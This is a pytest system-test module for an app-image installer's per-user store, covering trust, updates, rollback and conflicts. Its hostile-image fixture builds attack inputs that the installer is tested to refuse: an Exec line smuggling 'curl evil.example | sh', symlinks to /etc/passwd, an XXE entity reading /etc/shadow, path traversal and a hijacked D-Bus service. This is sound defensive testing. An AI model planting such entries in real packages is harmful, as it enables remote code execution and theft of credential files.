"""The per-user store through the real CLI (spec/xdg-index.md): trust policy, hostile
images, update and rollback, conflicts, listing. Runs as root with a private HOME; the
non-root desktop path is tests/system/test_install_desktop.py.

The helpers at the top (packing, store snapshots, the consistency check) are shared
by the other test_install_* and test_xdg_* modules.
"""

from __future__ import annotations

import hashlib
import json
import os
import pwd
import shutil
from pathlib import Path
from typing import Any

import pytest

from ..helpers import FIXTURES, HELLO, appimg, assert_one_line_error, png
from ..users import user_tmpdir

#: Variables the tests control; empty means "unset" for the XDG base directory rules.
CLEAN_XDG = {
    "XDG_DATA_HOME": "",
    "XDG_CONFIG_HOME": "",
    "XDG_DATA_DIRS": "",
    "XDG_CURRENT_DESKTOP": "",
}
GENERATED = ("applications/mimeinfo.cache", "icons/hicolor/icon-theme.cache")


# --- shared helpers ---------------------------------------------------------------------------


def home_env(home: Path, **extra: str) -> dict[str, str]:
    home.mkdir(parents=True, exist_ok=True)
    return {**CLEAN_XDG, "HOME": str(home), **extra}


def store_dir(home: Path) -> Path:
    return home / ".local" / "share" / "appimg"


def pack(tree: Path, out: Path, key: Path | None = None) -> Path:
    """The real packer, in-process (no interpreter start per image)."""
    from appimg.format import keys, packer

    signing = [keys.load_private(key)] if key else []
    packer.pack(tree, out, packer.PackOptions(signing_keys=signing), {"SOURCE_DATE_EPOCH": "0"})
    return out


def pack_for(user: pwd.struct_passwd, tree: Path) -> Path:
    """Pack ``tree`` into a directory of ``user``'s, readable by them."""
    image = pack(tree, user_tmpdir(user, "appimg-images-") / f"{tree.name}.appimg")
    image.chmod(0o644)
    return image


def make_app(root: Path, app_id: str, version: str = "1.0", *, name: str | None = None) -> Path:
    """A small app with a desktop entry and a 48x48 icon, named after ``app_id``."""
    name = name or app_id.rsplit(".", 1)[-1]
    (root / "bin").mkdir(parents=True, exist_ok=True)
    (root / "appimg.toml").write_text(
        f'id = "{app_id}"\nname = "{name}"\nversion = "{version}"\nentrypoint = "bin/app"\n'
    )
    (root / "bin" / "app").write_text(f"#!/bin/sh\necho '{name} {version}:' \"$@\"\n")
    (root / "bin" / "app").chmod(0o755)
    apps = root / "share" / "applications"
    apps.mkdir(parents=True, exist_ok=True)
    (apps / f"{app_id}.desktop").write_text(
        f"[Desktop Entry]\nType=Application\nName={name}\nExec=app %U\nIcon={app_id}\n"
        "Categories=Utility;\n"
    )
    icons = root / "share" / "icons" / "hicolor" / "48x48" / "apps"
    icons.mkdir(parents=True, exist_ok=True)
    (icons / f"{app_id}.png").write_bytes(png(48))
    return root


def sha256(path: Path) -> str:
    return hashlib.sha256(path.read_bytes()).hexdigest()


def load_index(home: Path) -> dict[str, Any] | None:
    path = store_dir(home) / "index.json"
    return json.loads(path.read_bytes()) if path.exists() else None


def exported_files(home: Path) -> dict[str, str]:
    """rel -> sha256 of every file in the exports directory except the tools' caches."""
    root = store_dir(home) / "exports" / "share"
    found = {}
    for path in sorted(root.rglob("*")) if root.exists() else []:
        rel = path.relative_to(root).as_posix()
        generated = rel in GENERATED or (rel.startswith("mime/") and "/packages/" not in rel)
        # The cache tools' own temporary files, seen if a command is killed while they run.
        generated = generated or path.name.startswith((".mimeinfo.cache", ".icon-theme.cache"))
        if path.is_file() and not generated:
            found[rel] = sha256(path)
    return found


def assert_consistent(home: Path) -> dict[str, Any]:
    """The store invariants after a command finished: exports and images match the index,
    nothing is staged or journaled. Returns the index (empty if there is no store)."""
    store = store_dir(home)
    index = load_index(home) or {"apps": {}}
    expected = {rel: sha for app in index["apps"].values() for rel, sha in app["exported"].items()}
    assert exported_files(home) == expected
    referenced = {v["file"] for app in index["apps"].values() for v in app["versions"]}
    images = (
        {p.relative_to(store).as_posix() for p in (store / "images").rglob("*") if p.is_file()}
        if store.exists()
        else set()
    )
    assert images == referenced
    for app_id, app in index["apps"].items():
        assert app["active"] == app["versions"][0]["key"], app_id
        assert 1 <= len(app["versions"]) <= 2
    assert not (store / "journal.json").exists()
    assert not (store / "tmp").exists()
    if not index["apps"]:
        assert not store.exists(), sorted(store.rglob("*"))
    return index


def home_snapshot(home: Path) -> dict[str, Any]:
    """Every path under HOME with its type and content (mtimes left out)."""
    snap: dict[str, Any] = {}
    for path in sorted(home.rglob("*")):
        rel = path.relative_to(home).as_posix()
        if path.is_symlink():
            snap[rel] = ("link", os.readlink(path))
        elif path.is_dir():
            snap[rel] = ("dir", oct(path.stat().st_mode & 0o7777))
        else:
            snap[rel] = ("file", oct(path.stat().st_mode & 0o7777), sha256(path))
    return snap


def exported_desktop(home: Path, app_id: str, name: str | None = None) -> str:
    path = store_dir(home) / "exports/share/applications" / f"{name or app_id}.desktop"
    return path.read_text()


# --- fixtures -------------------------------------------------------------------------------


@pytest.fixture(scope="session")
def built(tmp_path_factory: pytest.TempPathFactory, keypair: tuple[Path, Path]) -> dict[str, Path]:
    """Images packed once per session: name -> file."""
    out = tmp_path_factory.mktemp("store-images")
    trees = tmp_path_factory.mktemp("store-trees")
    key = keypair[0]
    images = {
        "multi": pack(FIXTURES / "multi", out / "Multi.appimg", key),
        "icons": pack(FIXTURES / "icons", out / "Icons.appimg", key),
        "unsigned": pack(HELLO, out / "Hello-unsigned.appimg"),
    }
    for version in ("2.0.0", "3.0.0"):
        tree = shutil.copytree(HELLO, trees / f"hello-{version}")
        toml = tree / "appimg.toml"
        toml.write_text(toml.read_text().replace('version = "1.0.0"', f'version = "{version}"'))
        images[f"hello-{version}"] = pack(tree, out / f"Hello-{version}.appimg", key)
    return images


# --- trust ----------------------------------------------------------------------------------


def test_trust_policy(
    tmp_path: Path, keypair: tuple[Path, Path], hello_image: Path, built: dict[str, Path]
) -> None:
    env = home_env(tmp_path / "home")
    refused = appimg("install", hello_image, env=env, check=False)
    assert_one_line_error(refused)
    assert refused.returncode == 6 and "not a trusted key" in refused.stderr
    unsigned = appimg("install", built["unsigned"], env=env, check=False)
    assert_one_line_error(unsigned)
    assert unsigned.returncode == 6 and "--allow-unsigned" in unsigned.stderr
    assert not store_dir(tmp_path / "home").exists()  # a refusal leaves no trace

    added = appimg("trust", "add", keypair[1], env=env)
    assert "trusted:" in added.stdout
    listed = json.loads(appimg("trust", "list", "--json", env=env).stdout)
    user_keys = [row for row in listed if row["scope"] == "user"]
    assert len(user_keys) == 1 and user_keys[0]["error"] is None
    kid = user_keys[0]["key_id"]
    result = json.loads(appimg("install", hello_image, "--json", env=env).stdout)
    assert result["signature"] == {"state": "trusted", "key_ids": [kid]}

    appimg("trust", "remove", kid[:10], env=env)
    assert not [
        r
        for r in json.loads(appimg("trust", "list", "--json", env=env).stdout)
        if r["scope"] == "user"
    ]
    # An update signed by the key the installed version was accepted with still installs.
    update = json.loads(appimg("update", built["hello-2.0.0"], "--json", env=env).stdout)
    assert update["signature"]["state"] == "pinned"
    assert_consistent(tmp_path / "home")


def test_untrusted_with_trust_flag_and_unsigned_with_allow(
    tmp_path: Path, hello_image: Path, built: dict[str, Path]
) -> None:
    env = home_env(tmp_path / "home")
    accepted = json.loads(appimg("install", hello_image, "--trust", "--json", env=env).stdout)
    assert accepted["signature"]["state"] == "accepted"
    env2 = home_env(tmp_path / "home2")
    result = json.loads(
        appimg("install", built["unsigned"], "--allow-unsigned", "--json", env=env2).stdout
    )
    assert result["signature"] == {"state": "unsigned", "key_ids": []}


def test_invalid_signature_is_refused_even_when_allowed(
    tmp_path: Path, signature_images: dict[str, Path]
) -> None:
    env = home_env(tmp_path / "home")
    result = appimg("install", signature_images["invalid"], "--trust", "--allow-unsigned",
                    env=env, check=False)  # fmt: skip
    assert_one_line_error(result)
    assert result.returncode == 5 and "invalid signature" in result.stderr
    assert not store_dir(tmp_path / "home").exists()


# --- hostile images -------------------------------------------------------------------------


HOSTILE_EXPORTS = {
    "desktop": [
        "share/applications/org.example.Evil.desktop",
        "share/applications/org.gnome.Nautilus.desktop",
        "share/applications/org.example.Evil.Shell.desktop",
        "share/applications/org.example.Evil.Icon.desktop",
    ],
    "icons": [
        "share/icons/hicolor/48x48/apps/org.example.Evil.png",
        "share/icons/hicolor/256x256/apps/org.example.Evil.png",
        "share/icons/hicolor/scalable/apps/org.example.Evil.svg",
        "share/icons/hicolor/symbolic/apps/org.example.Evil-symbolic.svg",
        "share/icons/hicolor/48x48/apps/org.example.Evil.Fine.png",
    ],
    "metainfo": ["share/metainfo/org.example.Evil.metainfo.xml"],
    "dbus": ["share/dbus-1/services/org.freedesktop.Notifications.service"],
}
#: payload path -> what the refusal must say
HOSTILE_REASONS = {
    "share/applications/org.gnome.Nautilus.desktop": "does not start with the app id",
    "share/applications/org.example.Evil.Shell.desktop": "shell metacharacter ';'",
    "share/applications/org.example.Evil.Icon.desktop": "must be an icon name, not a path",
    "share/icons/hicolor/48x48/apps/org.example.Evil.png": "4096x4096 but its directory says 48x48",
    "share/icons/hicolor/256x256/apps/org.example.Evil.png": "limit 1048576",
    "share/icons/hicolor/scalable/apps/org.example.Evil.svg": "symlink to '/etc/passwd' points",
    "share/icons/hicolor/symbolic/apps/org.example.Evil-symbolic.svg": "points outside the image",
    "share/metainfo/org.example.Evil.metainfo.xml": "entity",
    "share/dbus-1/services/org.freedesktop.Notifications.service": "does not start with the app id",
}


def make_hostile(root: Path) -> Path:
    (root / "bin").mkdir(parents=True)
    exports = "\n".join(f"{kind} = {json.dumps(paths)}" for kind, paths in HOSTILE_EXPORTS.items())
    (root / "appimg.toml").write_text(
        'id = "org.example.Evil"\nname = "Evil"\nversion = "6.6.6"\nentrypoint = "bin/evil"\n'
        f"[exports]\n{exports}\n"
    )
    (root / "bin" / "evil").write_text("#!/bin/sh\necho evil\n")
    (root / "bin" / "evil").chmod(0o755)
    apps = root / "share" / "applications"
    apps.mkdir(parents=True)
    entry = "[Desktop Entry]\nType=Application\nName={name}\nExec={exec}\nIcon={icon}\n"
    (apps / "org.example.Evil.desktop").write_text(
        entry.format(name="Evil", exec="evil %U", icon="org.example.Evil.Fine")
    )
    (apps / "org.gnome.Nautilus.desktop").write_text(
        entry.format(name="Files", exec="evil", icon="org.gnome.Nautilus")
    )
    (apps / "org.example.Evil.Shell.desktop").write_text(
        entry.format(name="Shell", exec="evil; curl evil.example | sh", icon="x")
    )
    (apps / "org.example.Evil.Icon.desktop").write_text(
        entry.format(name="Icon", exec="evil", icon="../../../usr/share/icons/x.png")
    )
    icons = root / "share" / "icons" / "hicolor"
    for sub in ("48x48/apps", "256x256/apps", "scalable/apps", "symbolic/apps"):
        (icons / sub).mkdir(parents=True)
    (icons / "48x48/apps/org.example.Evil.png").write_bytes(png(4096, padding=0))
    (icons / "256x256/apps/org.example.Evil.png").write_bytes(png(256, padding=1_200_000))
    (icons / "48x48/apps/org.example.Evil.Fine.png").write_bytes(png(48))
    os.symlink("/etc/passwd", icons / "scalable/apps/org.example.Evil.svg")
    os.symlink("../" * 24 + "etc/passwd", icons / "symbolic/apps/org.example.Evil-symbolic.svg")
    (root / "share" / "metainfo").mkdir(parents=True)
    (root / "share/metainfo/org.example.Evil.metainfo.xml").write_text(
        '<?xml version="1.0"?>\n<!DOCTYPE component [<!ENTITY x SYSTEM "file:///etc/shadow">]>\n'
        "<component><id>&x;</id></component>\n"
    )
    (root / "share/dbus-1/services").mkdir(parents=True)
    (root / "share/dbus-1/services/org.freedesktop.Notifications.service").write_text(
        "[D-BUS Service]\nName=org.freedesktop.Notifications\nExec=/bin/evil\n"
    )
    return root


def test_hostile_image_installs_nothing_of_that(tmp_path: Path) -> None:
    image = pack(make_hostile(tmp_path / "evil"), tmp_path / "Evil.appimg")
    home = tmp_path / "home"
    env = home_env(home)
    result = appimg("install", image, "--allow-unsigned", env=env)
    refusals = [line for line in result.stderr.splitlines() if ": refused " in line]
    assert len(refusals) == len(HOSTILE_REASONS), result.stderr
    for path, reason in HOSTILE_REASONS.items():
        line = next(x for x in refusals if f"refused {path}:" in x)
        assert reason in line, line
    index = assert_consistent(home)
    app = index["apps"]["org.example.Evil"]
    assert sorted(app["exported"]) == [
        "applications/org.example.Evil.desktop",
        "icons/hicolor/48x48/apps/org.example.Evil.Fine.png",
    ]
    assert {r["path"] for r in app["refused"]} == set(HOSTILE_REASONS)
    exported = store_dir(home) / "exports" / "share"
    for path in exported.rglob("*"):
        assert not path.is_symlink()
        assert "passwd" not in path.name and "Nautilus" not in path.name
    # The refused files are still recorded as what the image holds (not exported).
    version = app["versions"][0]
    assert "applications/org.gnome.Nautilus.desktop" in version["xdg_files"]

    strict = appimg(
        "install",
        image,
        "--allow-unsigned",
        "--strict",
        env=home_env(tmp_path / "strict"),
        check=False,
    )
    assert_one_line_error(strict)
    assert strict.returncode == 6 and "refused" in strict.stderr
    assert not store_dir(tmp_path / "strict").exists()


def test_forged_manifest_with_dotdot_is_refused_whole(tmp_path: Path) -> None:
    from appimg.format import canonical, packer
    from appimg.format.payload import writer as payload_writer

    tree = make_app(tmp_path / "tree", "org.example.Forged")
    manifest = {
        "format_version": 1,
        "id": "org.example.Forged",
        "name": "Forged",
        "version": "1",
        "arch": "x86_64",
        "entrypoint": "bin/app",
        "profile": "none",
        "exports": {"icons": ["share/icons/hicolor/48x48/apps/../../../../../etc/passwd"]},
    }
    payload = tmp_path / "payload.sqfs"
    payload_writer.write_payload(
        tree,
        payload,
        compressor="zstd",
        level=None,
        block_size=131072,
        jobs=1,
        mtime=0,
        progress=None,
    )
    fd = os.open(payload, os.O_RDONLY)
    try:
        image = tmp_path / "Forged.appimg"
        packer.assemble(image, manifest, canonical.dumps(manifest), fd, [], tmp_path)
    finally:
        os.close(fd)
    result = appimg("install", image, "--allow-unsigned", env=home_env(tmp_path / "h"), check=False)
    assert_one_line_error(result)
    assert "without '..'" in result.stderr and result.returncode == 3
    assert not store_dir(tmp_path / "h").exists()


# --- versions ---------------------------------------------------------------------------------


def test_update_and_rollback_switch_versions(
    tmp_path: Path, hello_image: Path, built: dict[str, Path]
) -> None:
    home = tmp_path / "home"
    env = home_env(home)
    appimg("install", hello_image, "--trust", env=env)
    twice = appimg("install", hello_image, "--trust", env=env, check=False)
    assert_one_line_error(twice)
    assert "already installed (use appimg update)" in twice.stderr
    same = appimg("update", hello_image, "--trust", env=env, check=False)
    assert_one_line_error(same)
    assert "1.0.0 is already installed" in same.stderr
    missing = appimg("update", built["multi"], "--trust", env=env, check=False)
    assert_one_line_error(missing)
    assert "not installed" in missing.stderr

    def state() -> tuple[list[str], str]:
        index = assert_consistent(home)
        versions = [v["version"] for v in index["apps"]["org.example.Hello"]["versions"]]
        desktop = exported_desktop(home, "org.example.Hello")
        return versions, desktop.split("X-Appimg-Version=")[1].split("\n")[0]

    appimg("update", built["hello-2.0.0"], env=env)
    assert state() == (["2.0.0", "1.0.0"], "2.0.0")
    appimg("rollback", "org.example.Hello", env=env)
    assert state() == (["1.0.0", "2.0.0"], "1.0.0")
    appimg("rollback", "org.example.Hello", env=env)
    assert state() == (["2.0.0", "1.0.0"], "2.0.0")
    appimg("update", built["hello-3.0.0"], env=env)
    assert state() == (["3.0.0", "2.0.0"], "3.0.0")  # 1.0.0 deleted: two versions are kept
    image_line = exported_desktop(home, "org.example.Hello").split("X-Appimg-Image=")[1]
    assert Path(image_line.strip()).name.startswith("3.0.0-")

    appimg("uninstall", "org.example.Hello", env=env)
    assert_consistent(home)
    again = appimg("rollback", "org.example.Hello", env=env, check=False)
    assert_one_line_error(again)


def test_rollback_needs_a_previous_version(tmp_path: Path, hello_image: Path) -> None:
    env = home_env(tmp_path / "home")
    appimg("install", hello_image, "--trust", env=env)
    result = appimg("rollback", "org.example.Hello", env=env, check=False)
    assert_one_line_error(result)
    assert "no previous version" in result.stderr


# --- several apps -----------------------------------------------------------------------------


def test_the_exact_id_wins_a_name_in_both_orders(tmp_path: Path) -> None:
    """org.example.Pair exports org.example.Pair.Extra.desktop: the app whose id is exactly
    that name gets it, installed after (the suite's export is withdrawn in the same
    transaction) or before (the suite is refused it)."""
    base = make_app(tmp_path / "pair", "org.example.Pair")
    extra = base / "share/applications/org.example.Pair.Extra.desktop"
    extra.write_text("[Desktop Entry]\nType=Application\nName=Hijack\nExec=app\n")
    pair = pack(base, tmp_path / "Pair.appimg")
    other = pack(make_app(tmp_path / "extra", "org.example.Pair.Extra"), tmp_path / "Extra.appimg")
    rel = "applications/org.example.Pair.Extra.desktop"

    home = tmp_path / "home"
    env = home_env(home)
    appimg("install", pair, "--allow-unsigned", env=env)
    assert "Name=Hijack" in exported_desktop(home, "org.example.Pair.Extra")
    result = appimg("install", other, "--allow-unsigned", env=env)
    assert "refused" not in result.stderr
    assert f"note: withdrew {rel} from org.example.Pair" in result.stderr
    index = assert_consistent(home)
    assert rel in index["apps"]["org.example.Pair.Extra"]["exported"]
    assert rel not in index["apps"]["org.example.Pair"]["exported"]
    assert {"path": f"share/{rel}",
            "reason": "the name belongs to the installed app org.example.Pair.Extra"} in index[
        "apps"]["org.example.Pair"]["refused"]  # fmt: skip
    assert "Name=Extra" in exported_desktop(home, "org.example.Pair.Extra")
    # Uninstalling the exact owner leaves the name free; the suite does not take it back.
    appimg("uninstall", "org.example.Pair.Extra", env=env)
    assert rel not in assert_consistent(home)["apps"]["org.example.Pair"]["exported"]

    home2 = tmp_path / "home2"
    env2 = home_env(home2)
    appimg("install", other, "--allow-unsigned", env=env2)
    result = appimg("install", pair, "--allow-unsigned", env=env2)
    assert "belongs to the installed app org.example.Pair.Extra" in result.stderr
    index = assert_consistent(home2)
    assert rel in index["apps"]["org.example.Pair.Extra"]["exported"]
    assert "Name=Extra" in exported_desktop(home2, "org.example.Pair.Extra")


def test_list_and_info(tmp_path: Path, built: dict[str, Path]) -> None:
    home = tmp_path / "home"
    env = home_env(home)
    assert json.loads(appimg("list", "--json", env=env).stdout) == []
    assert not store_dir(home).exists()  # reading does not create a store
    appimg("install", built["multi"], "--trust", env=env)
    appimg("install", built["icons"], "--trust", env=env)
    rows = json.loads(appimg("list", "--json", env=env).stdout)
    assert [(r["id"], r["version"], r["signature"], r["exported"]) for r in rows] == [
        ("org.example.Icons", "1.0", "accepted", 8),
        ("org.example.Multi", "1.0", "accepted", 6),
    ]
    info = json.loads(appimg("info", "org.example.Multi", "--json", env=env).stdout)
    assert info["versions"][0]["active"] and Path(info["versions"][0]["file"]).is_file()
    assert set(info["versions"][0]["xdg_files"]) == {
        "applications/org.example.Multi.desktop",
        "applications/org.example.Multi.Viewer.desktop",
        "dbus-1/services/org.example.Multi.service",
        "icons/hicolor/48x48/apps/org.example.Multi.png",
        "metainfo/org.example.Multi.metainfo.xml",
        "mime/packages/org.example.Multi.xml",
    }
    text = appimg("info", "org.example.Multi", env=env).stdout
    assert "exported" in text and "dbus-1/services/org.example.Multi.service" in text
    missing = appimg("info", "org.example.Nope", env=env, check=False)
    assert_one_line_error(missing)
    # The MIME cache and the desktop database were refreshed by the host's tools.
    share = store_dir(home) / "exports" / "share"
    if shutil.which("update-mime-database"):
        assert "text/x-org.example.multi" in (share / "mime/globs2").read_text()
    if shutil.which("update-desktop-database"):
        assert "org.example.Multi.desktop" in (share / "applications/mimeinfo.cache").read_text()


def test_damaged_index_is_a_store_error(tmp_path: Path, hello_image: Path) -> None:
    home = tmp_path / "home"
    env = home_env(home)
    appimg("install", hello_image, "--trust", env=env)
    (store_dir(home) / "index.json").write_text("{not json")
    for args in (("list",), ("uninstall", "org.example.Hello"), ("xdg", "find", "x/y")):
        result = appimg(*args, env=env, check=False)
        assert_one_line_error(result)
        assert result.returncode == 7 and "index.json" in result.stderr


# --- papercuts: what a user is told ---------------------------------------------------------


def test_list_with_nothing_installed_says_so(tmp_path: Path) -> None:
    env = home_env(tmp_path / "home")
    assert appimg("list", env=env).stdout.strip() == "no installed apps"
    assert json.loads(appimg("list", "--json", env=env).stdout) == []


def test_trust_add_refuses_a_private_key(tmp_path: Path, keypair: tuple[Path, Path]) -> None:
    env = home_env(tmp_path / "home")
    refused = appimg("trust", "add", keypair[0], env=env, check=False)
    assert_one_line_error(refused)
    assert refused.returncode == 2 and "private key" in refused.stderr and ".pub" in refused.stderr
    assert not [r for r in json.loads(appimg("trust", "list", "--json", env=env).stdout)
                if r["scope"] == "user"]  # fmt: skip


def test_uninstall_names_the_data_it_keeps_and_deletes_it_if_asked(
    tmp_path: Path, hello_image: Path
) -> None:
    home = tmp_path / "home"
    env = home_env(home)
    data = home / ".var" / "appimg" / "org.example.Hello"
    appimg("install", hello_image, "--trust", env=env)
    (data / "data").mkdir(parents=True)
    (data / "data" / "saved").write_text("the user's work")
    kept = appimg("uninstall", "org.example.Hello", env=env)
    assert f"the app's data stays in {data}" in kept.stderr and "--delete-data" in kept.stderr
    assert (data / "data" / "saved").exists()
    appimg("install", hello_image, "--trust", env=env)
    outside = tmp_path / "outside"
    outside.mkdir()
    (outside / "keep").write_text("not the app's")
    (data / "link").symlink_to(outside)  # removed as a link, never followed
    deleted = appimg("uninstall", "--delete-data", "org.example.Hello", env=env)
    assert f"deleted the app's data in {data}" in deleted.stderr
    assert not data.exists() and (outside / "keep").exists()
    assert_consistent(home)
